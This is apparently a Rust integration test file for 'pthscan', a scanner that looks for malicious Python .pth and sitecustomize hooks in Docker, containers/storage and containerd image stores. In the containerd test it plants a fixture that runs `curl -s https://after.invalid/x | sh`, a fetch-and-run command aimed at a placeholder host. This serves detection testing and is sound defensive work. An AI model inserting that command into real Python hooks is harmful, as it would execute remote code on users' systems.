//! Container engines' local image stores, read as files (`--image-store`, `pthscan NAME:TAG`):
//! Docker's classic store and containers/storage, laid out by `tests/images/store.py` from a
//! real Debian root filesystem as the engines lay them out (overlayfs whiteouts as character
//! devices 0/0, an opaque directory by its `trusted.` xattr) — each image judged once, with
//! exactly the findings its `docker save` gives, in the same layers; a hook a whiteout or an
//! opaque directory hides is gone; the containers made from it are named; a stock image
//! passes; a broken store says what it could not judge and goes on.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::util::*;

/// (rule, severity, path inside the image, layer number) of each finding.
type Found = BTreeSet<(String, String, String, String)>;

/// Each image's findings, by the name it is shown with (its first reference), and the notes
/// its findings carry.
fn by_image(json: &serde_json::Value) -> BTreeMap<String, (Found, BTreeSet<String>)> {
    let mut out: BTreeMap<String, (Found, BTreeSet<String>)> = BTreeMap::new();
    for f in json["findings"].as_array().unwrap() {
        let path = f["location"]["path"].as_str().unwrap();
        let parts: Vec<&str> = path.split(" › ").collect();
        // an image by its first name, a container by its name
        let image = match parts[1].strip_prefix("container ") {
            Some(_) => parts[1].to_owned(),
            None => parts[1].split(' ').next().unwrap().to_owned(),
        };
        let layer = parts
            .iter()
            .find(|p| p.starts_with("layer "))
            .map(|l| l.split(' ').nth(1).unwrap().to_owned())
            .unwrap_or_default();
        let entry = out.entry(image).or_default();
        entry.0.insert((
            f["rule"].as_str().unwrap().to_owned(),
            f["severity"].as_str().unwrap().to_owned(),
            parts.last().unwrap().to_string(),
            layer,
        ));
        for n in f["notes"].as_array().into_iter().flatten() {
            entry.1.insert(n.as_str().unwrap().to_owned());
        }
    }
    out
}

/// How many findings the image shown first as `name` has (each counted, none merged).
fn image_findings(json: &serde_json::Value, name: &str) -> usize {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            let path = f["location"]["path"].as_str().unwrap();
            path.split(" › ").nth(1).unwrap().split(' ').next() == Some(name)
        })
        .count()
}

fn medium_up(found: &Found) -> Found {
    found
        .iter()
        .filter(|f| ["medium", "high", "critical"].contains(&f.1.as_str()))
        .cloned()
        .collect()
}

fn json_of(args: &[&str]) -> (serde_json::Value, std::process::Output) {
    let mut all = args.to_vec();
    all.extend(["--format", "json"]);
    let out = pthscan(&all);
    let json = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}{}", stdout(&out), stderr(&out)));
    (json, out)
}

/// Overlayfs whiteouts are character devices and opaque directories carry a `trusted.`
/// attribute: only root makes them. Not root, the test fails and says so.
fn require_root() {
    use std::os::unix::fs::MetadataExt;
    // `/proc/self` is owned by the effective user
    let euid = std::fs::metadata("/proc/self").unwrap().uid();
    assert_eq!(
        euid, 0,
        "the store tests make overlayfs whiteouts (mknod of a character device 0/0) and set `trusted.overlay.opaque`: run them as root"
    );
}

/// The stores `tests/images/store.py` lays out under `root/var/lib`.
fn build_stores(root: &Path) {
    let rootfs = setup_tool(
        "PTHSCAN_DEBIAN_ROOTFS",
        "pthscan-images/bookworm-python.tar",
    );
    let built = Command::new("python3")
        .arg("-I")
        .arg(repo().join("tests/images/store.py"))
        .arg(&rootfs)
        .arg(root.join("var/lib"))
        .output()
        .unwrap();
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
}

#[test]
fn every_image_of_a_store_is_judged_once_as_its_docker_save_is() {
    require_root();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    build_stores(root);
    let lib = root.join("var/lib");
    let save = |name: &str| {
        let (json, run) = scan_json(&lib.join(name), &[]);
        assert_eq!(code(&run), 1, "{name}: {}", stderr(&run));
        by_image(&json)
    };
    let app = save("docker-save.tar").remove("app:1.0").unwrap().0;
    let app_count = image_findings(&scan_json(&lib.join("docker-save.tar"), &[]).0, "app:1.0");
    let before = save("before-save.tar").remove("app:before").unwrap().0;
    // the image and its layer-2 ancestor as `docker save` has them: the hooks layer 3 hides
    // (by a whiteout, by an opaque directory) are in the ancestor, gone from the image
    let opaque = "opt/venv/lib/python3.11/site-packages/opaque.pth";
    let gone = "usr/local/lib/python3.11/dist-packages/gone.pth";
    let at = |found: &Found, path: &str| -> BTreeSet<String> {
        found
            .iter()
            .filter(|f| f.2 == path && f.0 == "PTH001")
            .map(|f| f.3.clone())
            .collect()
    };
    assert_eq!(at(&before, opaque), BTreeSet::from(["2".to_owned()]));
    assert_eq!(at(&before, gone), BTreeSet::from(["2".to_owned()]));
    assert!(at(&app, opaque).is_empty(), "{app:#?}");
    assert_eq!(at(&app, gone), BTreeSet::from(["4".to_owned()]));

    for (store, prefix, container) in [
        (
            "docker",
            "",
            "`env` (running), `old` (stopped), `rep0` (running), `rep1` (running), `rep2` (running), and 6 more",
        ),
        ("containers/storage", "localhost/", "`worker`"),
    ] {
        let (json, run) = json_of(&["--image-store", lib.join(store).to_str().unwrap()]);
        assert_eq!(code(&run), 1, "{store}: {}", stderr(&run));
        // everything judged, the containers' writable layers too, but the one container whose
        // image is not in the store, which is said
        let err = stderr(&run);
        if store == "docker" {
            assert!(
                err.lines().count() == 1
                    && err.contains("`orphan` name image")
                    && err.contains("not judged"),
                "{err}"
            );
        } else {
            assert!(
                err.lines().count() == 1 && err.contains("entry 1 is malformed"),
                "{err}"
            );
        }
        let text = json.to_string();
        // each image once, named by every reference and its id
        assert!(
            text.contains(&format!("{prefix}app:1.0 (also {prefix}app:latest, ")),
            "{store}: {text}"
        );
        let images = by_image(&json);
        let names: Vec<&str> = images.keys().map(String::as_str).collect();
        let mut want = vec![format!("{prefix}app:1.0"), format!("{prefix}app:before")];
        let containers: &[&str] = if store == "docker" {
            // `old` and seven replicas changed nothing Python reads: no finding of theirs
            &["container env", "container rep7", "container web"]
        } else {
            &["container worker"]
        };
        want.extend(containers.iter().map(|c| c.to_string()));
        if store == "docker" {
            // the root filesystem alone: its info findings (the stock hooks), nothing more
            want.push("debian:stock".into());
            assert!(
                medium_up(&images["debian:stock"].0).is_empty(),
                "{images:#?}"
            );
        }
        want.sort();
        assert_eq!(names, want, "{store}");
        // a container: what its writable layer holds (the hook installed after it started,
        // as layer 5 on top of the image's four; on Docker's `web` also a hook that is a link
        // to a file it wrote), and nothing the image's own layers hold
        let running = if store == "docker" { "web" } else { "worker" };
        let (found, notes) = &images[&format!("container {running}")];
        let high = |f: &(String, String, String, String), file: &str| {
            f.2.ends_with(file) && f.0 == "PTH001" && (f.1 == "high" || f.1 == "critical")
        };
        assert!(
            found
                .iter()
                .all(|f| (f.2.ends_with("after_start.pth") && f.3 == "5")
                    || f.2.ends_with("zz_link.pth"))
                && found.iter().any(|f| high(f, "after_start.pth")),
            "{store}: {found:#?}"
        );
        if store == "docker" {
            assert!(
                found.iter().any(|f| high(f, "zz_link.pth")),
                "the linked hook: {found:#?}"
            );
            // the container's own variables: PYTHONPATH leads to a sitecustomize it wrote
            let (env, _) = &images["container env"];
            assert!(
                env.iter()
                    .any(|f| f.2.ends_with("srv/evil/sitecustomize.py")
                        && f.0 == "CUS001"
                        && (f.1 == "high" || f.1 == "critical")),
                "{env:#?}"
            );
            // the eighth replica of one image, judged after seven in the default budget
            let (rep, _) = &images["container rep7"];
            assert!(rep.iter().any(|f| high(f, "replica.pth")), "{rep:#?}");
        }
        assert!(
            notes.iter().any(|n| n.starts_with(&format!(
                "written in the container `{running}` of image {prefix}app:1.0"
            ))),
            "{store}: {notes:?}"
        );
        assert!(
            !notes
                .iter()
                .any(|n| n.contains("`old`") && n.starts_with("written")),
            "{store}: a container that changed nothing has no finding"
        );
        let (found, notes) = &images[&format!("{prefix}app:1.0")];
        assert_eq!(
            found, &app,
            "{store}: the image differs from its docker save"
        );
        // judged once, however many names: as many findings as its docker save has
        let count = image_findings(&json, &format!("{prefix}app:1.0"));
        assert_eq!(count, app_count, "{store}");
        assert_eq!(
            notes
                .iter()
                .filter(|n| n.starts_with("the image of containers"))
                .collect::<Vec<_>>(),
            [&format!("the image of containers {container}")],
            "{store}"
        );
        let (found, notes) = &images[&format!("{prefix}app:before")];
        assert_eq!(
            found, &before,
            "{store}: the ancestor differs from its docker save"
        );
        assert!(
            !notes.iter().any(|n| n.contains("containers")),
            "{store}: no container runs the ancestor"
        );
        assert!(!text.contains("first.invalid") || text.contains("app:before"));
        assert!(
            text.contains("layer 4 was created by: RUN echo again"),
            "{store}: history past empty entries"
        );
    }
    // only the image of that name, found where the host keeps its stores; judged once in each
    // store that has it
    let r = root.to_str().unwrap();
    let (json, run) = json_of(&["--root", r, "app:latest"]);
    assert_eq!(code(&run), 1, "{}", stderr(&run));
    let images = by_image(&json);
    let names: Vec<&String> = images.keys().collect();
    // its containers with it: what changed in each since it started
    assert_eq!(
        names,
        [
            "app:1.0",
            "container env",
            "container rep7",
            "container web",
            "container worker",
            "localhost/app:1.0"
        ]
    );
    assert_eq!(images["app:1.0"].0, app);
    // the stock image passes
    let (json, run) = json_of(&["--root", r, "debian:stock"]);
    assert_eq!(code(&run), 0, "{}", stderr(&run));
    let stock = by_image(&json);
    assert!(
        stock.values().all(|(f, _)| medium_up(f).is_empty()),
        "{stock:#?}"
    );
    // a name no store has: said, exit 2
    let run = pthscan(&["--root", r, "nosuch:1"]);
    assert_eq!(code(&run), 2, "{}", stderr(&run));
    assert!(
        stderr(&run).contains("error:")
            && stderr(&run).contains("no image `nosuch:1` in the local stores"),
        "{}",
        stderr(&run)
    );
    // a sweep of the host does not walk the layers as if they were the host, and says where
    // the images are; with the store given, it judges them too
    let (json, run) = json_of(&["--root", r]);
    assert!(
        !json.to_string().contains("litellm_init.pth"),
        "a layer walked as the host: {json}"
    );
    assert!(
        stderr(&run).contains("give `--image-store /var/lib/docker`"),
        "{}",
        stderr(&run)
    );
    // an image named and its store given whole: judged once
    let (json, run) = json_of(&["--root", r, "--image-store", "/var/lib/docker", "app:1.0"]);
    assert_eq!(code(&run), 1, "{}", stderr(&run));
    assert_eq!(image_findings(&json, "app:1.0"), app_count);
    assert_eq!(
        by_image(&json)
            .get("app:1.0")
            .map(|(f, _)| f.clone())
            .unwrap_or_default(),
        app
    );
    assert!(!stderr(&run).contains("give `--image-store /var/lib/docker`"));
}

/// A small Docker store written here: image `good` (one layer with a benign `.pth`) and images
/// whose store data is broken in one way each.
pub(crate) fn small_docker_store(root: &Path) -> PathBuf {
    use sha2::Digest;
    let hex = |b: &[u8]| format!("{:x}", sha2::Sha256::digest(b));
    let store = root.join("docker");
    let db = store.join("image/overlay2");
    std::fs::create_dir_all(db.join("imagedb/content/sha256")).unwrap();
    let mut repos = serde_json::Map::new();
    for (tag, broken) in [
        ("good", ""),
        ("nocache", "cache-id"),
        ("nolayer", "layer dir"),
    ] {
        let diff = format!("sha256:{}", hex(tag.as_bytes()));
        let config = serde_json::to_vec(&serde_json::json!({
            "rootfs": {"type": "layers", "diff_ids": [diff]},
            "history": [{"created_by": format!("ADD {tag}")}],
        }))
        .unwrap();
        let id = hex(&config);
        std::fs::write(db.join("imagedb/content/sha256").join(&id), &config).unwrap();
        repos.insert(
            tag.into(),
            serde_json::json!({ format!("{tag}:1"): format!("sha256:{id}") }),
        );
        let entry = db.join("layerdb/sha256").join(&diff[7..]);
        std::fs::create_dir_all(&entry).unwrap();
        std::fs::write(entry.join("diff"), &diff).unwrap();
        let cache = format!("c{tag}");
        if broken != "cache-id" {
            std::fs::write(entry.join("cache-id"), &cache).unwrap();
        }
        if broken != "layer dir" {
            let site = store
                .join("overlay2")
                .join(&cache)
                .join("diff/usr/lib/python3/dist-packages");
            std::fs::create_dir_all(&site).unwrap();
            std::fs::write(site.join("paths.pth"), "/opt/lib\n").unwrap();
        }
    }
    std::fs::create_dir_all(store.join("overlay2")).unwrap();
    std::fs::write(
        db.join("repositories.json"),
        serde_json::to_vec(&serde_json::json!({ "Repositories": repos })).unwrap(),
    )
    .unwrap();
    store
}

#[test]
fn a_broken_store_says_which_image_it_could_not_judge_and_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let store = small_docker_store(dir.path());
    let s = store.to_str().unwrap();
    let (json, run) = json_of(&["--image-store", s]);
    let err = stderr(&run);
    assert_eq!(code(&run), 2, "{err}");
    // the good image judged: its path line is seen
    assert!(json.to_string().contains("good:1"), "{json}");
    assert!(
        err.contains("nocache:1") && err.contains("image not judged") && err.contains("cache-id"),
        "{err}"
    );
    assert!(
        err.contains("nolayer:1")
            && err.contains("layer directory `overlay2/cnolayer/diff` cannot be read"),
        "{err}"
    );
    assert_eq!(err.matches("error:").count(), 2, "{err}");
    // malformed JSON: the store is not read, and says why
    std::fs::write(
        store.join("image/overlay2/repositories.json"),
        b"{\"Repositories\": [",
    )
    .unwrap();
    let run = pthscan(&["--image-store", s]);
    assert_eq!(code(&run), 2);
    assert!(
        stderr(&run).contains("`image/overlay2/repositories.json` is malformed"),
        "{}",
        stderr(&run)
    );
    // not a store at all
    let run = pthscan(&["--image-store", dir.path().to_str().unwrap()]);
    assert_eq!(code(&run), 2);
    assert!(
        stderr(&run).contains("not a container image store"),
        "{}",
        stderr(&run)
    );
}

/// containerd started for the test on a root, state and socket of its own (Debian's package;
/// never the machine's own daemon), stopped when dropped.
struct Containerd {
    child: std::process::Child,
    socket: PathBuf,
}

impl Containerd {
    fn start(dir: &Path) -> Containerd {
        let root = dir.join("var/lib/containerd");
        let state = dir.join("run/containerd");
        let socket = state.join("containerd.sock");
        let config = dir.join("containerd.toml");
        std::fs::write(
            &config,
            format!(
                "version = 2\nroot = {:?}\nstate = {:?}\ndisabled_plugins = [\"io.containerd.grpc.v1.cri\"]\n[grpc]\n  address = {:?}\n",
                root, state, socket
            ),
        )
        .unwrap();
        let child = Command::new("containerd")
            .arg("-c")
            .arg(&config)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("containerd (Debian's package; .ci/setup installs it) must be on PATH");
        let ctd = Containerd { child, socket };
        for _ in 0..100 {
            if ctd.ctr(&["version"]).status.success() {
                return ctd;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        panic!("containerd did not start");
    }

    fn ctr(&self, args: &[&str]) -> std::process::Output {
        Command::new("ctr")
            .arg("--address")
            .arg(&self.socket)
            .args(args)
            .output()
            .unwrap()
    }

    fn run(&self, args: &[&str]) {
        let out = self.ctr(args);
        assert!(
            out.status.success(),
            "ctr {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

impl Drop for Containerd {
    fn drop(&mut self) {
        // the process this test started, by its id
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// containerd's store as containerd itself writes it (its bbolt `meta.db`, its content store):
/// every namespace read, each image once however many names and namespaces it has, with the
/// findings its `docker save` gives, and the container made from it named.
#[test]
fn a_containerd_store_is_read_as_containerd_wrote_it() {
    require_root();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    build_stores(root);
    let lib = root.join("var/lib");
    let save = |name: &str| by_image(&scan_json(&lib.join(name), &[]).0);
    let app = save("docker-save.tar").remove("app:1.0").unwrap().0;
    let before = save("before-save.tar").remove("app:before").unwrap().0;
    {
        let ctd = Containerd::start(root);
        let tar = |n: &str| lib.join(n).display().to_string();
        // the same image in another namespace too: one image still
        for (namespace, saved) in [
            ("k8s.io", "docker-save.tar"),
            ("k8s.io", "before-save.tar"),
            ("default", "docker-save.tar"),
        ] {
            ctd.run(&[
                "-n",
                namespace,
                "images",
                "import",
                "--no-unpack",
                &tar(saved),
            ]);
        }
        // containers with snapshots of the overlayfs snapshotter (ctr unpacks the image
        // first): `web` then installs a hook, `job` runs with PYTHONPATH at a sitecustomize it
        // writes, `idle` changes nothing; `native` keeps a snapshot this reader does not read
        for (name, env) in [
            ("web", None),
            ("job", Some("PYTHONPATH=/srv/evil")),
            ("idle", None),
        ] {
            let mut args = vec!["-n", "k8s.io", "containers", "create"];
            args.extend(env.iter().flat_map(|e| ["--env", *e]));
            args.extend(["docker.io/library/app:1.0", name]);
            ctd.run(&args);
        }
        // a container whose image name was removed after it was made
        ctd.run(&[
            "-n",
            "k8s.io",
            "images",
            "tag",
            "docker.io/library/app:1.0",
            "docker.io/library/app:gone",
        ]);
        ctd.run(&[
            "-n",
            "k8s.io",
            "containers",
            "create",
            "docker.io/library/app:gone",
            "gone",
        ]);
        ctd.run(&["-n", "k8s.io", "images", "rm", "docker.io/library/app:gone"]);
        // a writable snapshot no container of containerd's has (as Docker's containers on
        // containerd's image store are)
        ctd.run(&["-n", "k8s.io", "snapshots", "prepare", "dockers-own"]);
        ctd.run(&[
            "-n",
            "default",
            "containers",
            "create",
            "--snapshotter",
            "native",
            "docker.io/library/app:1.0",
            "native",
        ]);
        // what each wrote since it started, into its snapshot's upper directory as containerd
        // mounts it
        let upper = |container: &str| -> PathBuf {
            let out = ctd.ctr(&["-n", "k8s.io", "snapshots", "mounts", "/mnt", container]);
            let mounts = String::from_utf8_lossy(&out.stdout).into_owned();
            let dir = mounts
                .split(['\n', ' ', ','])
                .find_map(|w| w.strip_prefix("upperdir="))
                .unwrap_or_else(|| panic!("no upperdir in {mounts:?}"));
            PathBuf::from(dir)
        };
        let plant = |container: &str, rel: &str, body: &[u8]| {
            let path = upper(container).join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, body).unwrap();
        };
        let evil = b"import os; os.system('curl -s https://after.invalid/x | sh')\n";
        plant("web", "usr/lib/python3/dist-packages/after_start.pth", evil);
        plant("job", "srv/evil/sitecustomize.py", &evil[..evil.len() - 1]);
    }
    let store = root.join("var/lib/containerd");
    let (json, run) = json_of(&["--image-store", store.to_str().unwrap()]);
    assert_eq!(code(&run), 1, "{}", stderr(&run));
    // everything judged but the native snapshotter's container, the one whose image is gone
    // and the snapshot no container has, which are said
    let err = stderr(&run);
    assert_eq!(err.lines().count(), 3, "{err}");
    assert!(
        err.contains("1 writable snapshot(s) of the overlayfs snapshotter belong to no container")
            && err.contains("k8s.io/")
            && err.contains("/dockers-own`"),
        "{err}"
    );
    assert!(
        err.contains("app:1.0")
            && err.contains("writable layers of 1 container(s)")
            && err.contains("`native`: its snapshotter `native`"),
        "{err}"
    );
    assert!(
        err.contains("container(s) `gone` name image `docker.io/library/app:gone` (namespace `k8s.io`), which is not in the store"),
        "{err}"
    );
    let images = by_image(&json);
    let names: Vec<&str> = images.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [
            "container job",
            "container web",
            "docker.io/library/app:1.0",
            "docker.io/library/app:before"
        ]
    );
    // each container: what it changed on top of the image's four layers, nothing the image
    // has itself
    let high = |f: &(String, String, String, String), rule: &str, file: &str| {
        f.0 == rule && f.2.ends_with(file) && (f.1 == "high" || f.1 == "critical") && f.3 == "5"
    };
    let (web, notes) = &images["container web"];
    assert!(
        web.iter()
            .all(|f| f.2.ends_with("after_start.pth") && f.3 == "5")
            && web.iter().any(|f| high(f, "PTH001", "after_start.pth")),
        "{web:#?}"
    );
    assert!(
        notes.contains(
            "written in the container `web` of image docker.io/library/app:1.0 since it started"
        ),
        "{notes:?}"
    );
    // its own variables, from its runtime spec: without them the sitecustomize never runs
    let (job, _) = &images["container job"];
    assert!(
        job.iter()
            .any(|f| high(f, "CUS001", "srv/evil/sitecustomize.py")),
        "{job:#?}"
    );
    assert!(
        json.to_string()
            .contains("docker.io/library/app:1.0 (also docker.io/library/app:latest)"),
        "{json}"
    );
    let (found, notes) = &images["docker.io/library/app:1.0"];
    assert_eq!(found, &app);
    assert!(
        notes.contains("the image of containers `idle`, `job`, `native`, `web`"),
        "{notes:?}"
    );
    assert_eq!(images["docker.io/library/app:before"].0, before);
    // by name, under --root: the same image
    let (json, run) = json_of(&[
        "--root",
        root.to_str().unwrap(),
        "docker.io/library/app:1.0",
    ]);
    assert_eq!(code(&run), 1, "{}", stderr(&run));
    assert_eq!(by_image(&json)["docker.io/library/app:1.0"].0, app);
    // current Docker's containerd image store: the same layout under /var/lib/docker
    let docker = tempfile::tempdir().unwrap();
    let daemon = docker.path().join("var/lib/docker/containerd/daemon");
    std::fs::create_dir_all(daemon.parent().unwrap()).unwrap();
    std::fs::rename(&store, &daemon).unwrap();
    let (json, run) = json_of(&["--root", docker.path().to_str().unwrap(), "app:1.0"]);
    assert_eq!(code(&run), 1, "{}", stderr(&run));
    assert_eq!(by_image(&json)["docker.io/library/app:1.0"].0, app);
    let once = json["summary"]["findings"].clone();
    // … and beside the classic store it moved from (an image db with no image): both are
    // searched, the image judged once
    for dir in ["image/overlay2/imagedb/content/sha256", "overlay2"] {
        std::fs::create_dir_all(docker.path().join("var/lib/docker").join(dir)).unwrap();
    }
    let (json, run) = json_of(&["--root", docker.path().to_str().unwrap(), "app:1.0"]);
    assert_eq!(code(&run), 1, "{}", stderr(&run));
    assert_eq!(by_image(&json)["docker.io/library/app:1.0"].0, app);
    assert_eq!(json["summary"]["findings"], once);
}
